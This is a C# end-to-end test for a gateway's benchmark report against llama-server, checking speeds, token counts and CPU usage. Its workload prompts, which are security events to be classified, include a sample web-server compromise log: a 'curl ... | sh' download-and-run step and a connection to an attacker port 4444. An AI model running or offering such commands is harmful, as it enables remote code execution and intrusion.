using System.Globalization;
using System.Text.Json;
using LlmGateway.Tests;

namespace LlmGateway.Cli.Tests;

/// <summary>llmgw report against the real gateway serving the tiny model, through the command line as a user runs it.</summary>
public sealed class ReportEndToEndTests
{
    /// <summary>
    /// How far the report's speeds may be from llama-server's own counters: both come from llama-server's clock, but
    /// the per-answer "timings" are rounded to microseconds and its /metrics counters to its own accumulation.
    /// </summary>
    private const double SpeedTolerance = 0.05;

    /// <summary>
    /// The same for prefill against llama-server's /metrics prompt time, which runs 8 to 13 % below the sum of its answers'
    /// prompt_ms (four runs, the tiny model, prompts of a few dozen tokens taking a few ms each): the pinned build starts its
    /// two clocks at different points, which weighs on prompts this short. The report's prefill equals the answers'
    /// timings exactly (asserted above); this bound only says the counters tell the same story.
    /// </summary>
    private const double PrefillCounterTolerance = 0.25;

    /// <summary>
    /// How far llama-server's CPU time by the gateway's samples may be from /proc's: /proc counts in 10 ms ticks, the
    /// gateway in nanoseconds (schedstat or the cgroup's count), and /proc's run includes the quiet second.
    /// </summary>
    private const double CpuTolerance = 0.2;

    [Fact]
    public async Task Report_replays_a_workload_and_its_figures_agree_with_llama_servers_timings()
    {
        await using var gateway = await GatewayProcess.StartAsync();
        var directory = Directory.CreateTempSubdirectory("llmgw-report-");
        try
        {
            var workload = Path.Combine(directory.FullName, "w.jsonl");
            await File.WriteAllLinesAsync(workload,
            [
                """{"name":"e2e","arrival":"sequential","system":"You classify security events. Answer in JSON."}""",
                """{"id":"short","messages":[{"role":"user","content":"sshd: Failed password for root from 10.0.0.9"}],"max_tokens":6,"expected":{"field":"verdict","value":"suspicious"}}""",
                """{"id":"long","messages":[{"role":"user","content":"parent=apache2 user=www-data cmd=/bin/sh -c curl -fsSL http://203.0.113.50/x.sh | sh; parent=sh cmd=chmod +x /tmp/x; parent=sh cmd=/tmp/x -c 203.0.113.50:4444"}],"max_tokens":8}""",
                """{"id":"third","messages":[{"role":"user","content":"proto=tcp dst=185.220.101.34:9001 process=/tmp/.x/kworker"}],"max_tokens":4,"expected":{"regex":"."}}""",
                """{"id":"busy","messages":[{"role":"user","content":"Summarise the last hour of auth.log."}],"max_tokens":160,"ignore_eos":true}""",
            ]);
            var before = await LlamaCountersAsync(gateway);
            var output = Path.Combine(directory.FullName, "card.json");

            // /proc, read independently of the gateway over the whole run, is what the report's CPU figures are checked against.
            var reference = new Report.ProcessSampler(await gateway.ChildPidAsync(), gateway.Pid, TimeSpan.FromMilliseconds(100));
            var exit = await LlmgwApp.Create().RunAsync(
                ["report", "--url", gateway.BaseUri.ToString(), "--workload", workload, "--idle-seconds", "1", "--settle-seconds", "0", "--format", "json", "--out", output]);
            var proc = reference.Stop();
            reference.Dispose();

            var after = await LlamaCountersAsync(gateway);
            // 0: every target met; 3: one missed (on a shared machine any may be). Anything else is an error of the tool.
            Assert.True(exit is 0 or 3, $"llmgw report exited with {exit}");
            using var card = JsonDocument.Parse(await File.ReadAllTextAsync(output));
            var root = card.RootElement;
            Assert.Equal((4, 4, 0), (root.GetProperty("requests").GetInt32(), root.GetProperty("succeeded").GetInt32(), root.GetProperty("failed").GetInt32()));

            var results = root.GetProperty("results").EnumerateArray().ToList();
            long predicted = 0, prompt = 0;
            double predictedMs = 0, promptMs = 0;
            foreach (var result in results)
            {
                Assert.True(result.GetProperty("ok").GetBoolean(), result.ToString());
                var timings = result.GetProperty("timings");
                var latency = result.GetProperty("latencySeconds").GetDouble();
                var ttft = result.GetProperty("ttftSeconds").GetDouble();
                // The client's clock spans llama-server's work on the answer: its latency is at least prefill + decode as
                // llama-server timed them (less 1 ms for their rounding), and the first token came within it.
                Assert.True(latency * 1000 >= timings.GetProperty("promptMs").GetDouble() + timings.GetProperty("predictedMs").GetDouble() - 1, result.ToString());
                Assert.InRange(ttft, 0, latency);
                // Token counts agree exactly: usage is what llama-server counted.
                Assert.Equal(result.GetProperty("completionTokens").GetInt64(), timings.GetProperty("predictedTokens").GetInt64());
                Assert.Equal(result.GetProperty("promptTokens").GetInt64(), timings.GetProperty("promptTokens").GetInt64() + timings.GetProperty("cachedTokens").GetInt64());
                predicted += timings.GetProperty("predictedTokens").GetInt64();
                prompt += timings.GetProperty("promptTokens").GetInt64();
                predictedMs += timings.GetProperty("predictedMs").GetDouble();
                promptMs += timings.GetProperty("promptMs").GetDouble();
            }

            // The scorecard's speeds are those of the answers' timings, and agree with llama-server's own /metrics counters.
            var lines = root.GetProperty("lines").EnumerateArray().ToDictionary(l => l.GetProperty("metric").GetString()!, l => l);
            var decode = lines["decode"].GetProperty("value").GetDouble();
            var prefill = lines["prefill"].GetProperty("value").GetDouble();
            Assert.Equal(predicted / predictedMs * 1000, decode, 6);
            Assert.Equal(prompt / promptMs * 1000, prefill, 6);
            Assert.Equal(predicted, after.Predicted - before.Predicted);
            Assert.Equal(prompt, after.Prompt - before.Prompt);
            var serverDecode = (after.Predicted - before.Predicted) / (after.PredictedSeconds - before.PredictedSeconds);
            var serverPrefill = (after.Prompt - before.Prompt) / (after.PromptSeconds - before.PromptSeconds);
            Assert.InRange(decode, serverDecode * (1 - SpeedTolerance), serverDecode * (1 + SpeedTolerance));
            Assert.InRange(prefill, serverPrefill * (1 - PrefillCounterTolerance), serverPrefill * (1 + PrefillCounterTolerance));

            // Every figure was measured: CPU and RSS from /proc of the gateway's child, idle over the quiet second.
            Assert.NotEqual(JsonValueKind.Null, lines["idle CPU (gateway + llama-server)"].GetProperty("value").ValueKind);
            Assert.NotEqual(JsonValueKind.Null, lines["active CPU p99"].GetProperty("value").ValueKind);
            Assert.True(lines["llama-server RSS peak"].GetProperty("value").GetDouble() > 0);
            Assert.True(lines["latency p99/p50"].GetProperty("value").GetDouble() >= 1);
            Assert.Contains("not meaningful", lines["correctness"].GetProperty("note").GetString(), StringComparison.Ordinal);
            Assert.NotEmpty(root.GetProperty("activeSamples").EnumerateArray());

            // The report's CPU comes from the gateway's sampler; over the same run, llama-server's CPU time by it agrees
            // with /proc's count. Both cover the whole workload; the edges they differ by are idle, so totals compare well
            // (mean percentages would not: the two intervals differ in length by up to a sample at each end).
            var cores = Environment.ProcessorCount;
            var interval = 0.1;
            var byGateway = root.GetProperty("activeSamples").EnumerateArray().Sum(x => x.GetProperty("childPercent").GetDouble() / 100 * cores * interval);
            var byProc = proc.Zip(proc.Skip(1)).Sum(p => p.Second.ChildPercent / 100 * cores * (p.Second.Seconds - p.First.Seconds));
            Assert.True(byProc > 0.2, $"the workload should keep llama-server busy for a measurable time; /proc counted {byProc:0.000} CPU-s");
            Assert.InRange(byGateway, (byProc * (1 - CpuTolerance)) - 0.05, (byProc * (1 + CpuTolerance)) + 0.05);
        }
        finally
        {
            directory.Delete(recursive: true);
        }
    }

    /// <summary>llama-server's own counters (GET /admin/llama-server/metrics): tokens and the seconds it spent on them.</summary>
    private static async Task<(long Prompt, double PromptSeconds, long Predicted, double PredictedSeconds)> LlamaCountersAsync(GatewayProcess gateway)
    {
        var text = await gateway.Http.GetStringAsync("/admin/llama-server/metrics");
        double Value(string name) => text.Split('\n')
            .Where(l => l.StartsWith(name + " ", StringComparison.Ordinal))
            .Select(l => double.Parse(l[(name.Length + 1)..], CultureInfo.InvariantCulture))
            .Single();
        return ((long)Value("llamacpp:prompt_tokens_total"), Value("llamacpp:prompt_seconds_total"),
            (long)Value("llamacpp:tokens_predicted_total"), Value("llamacpp:tokens_predicted_seconds_total"));
    }
}
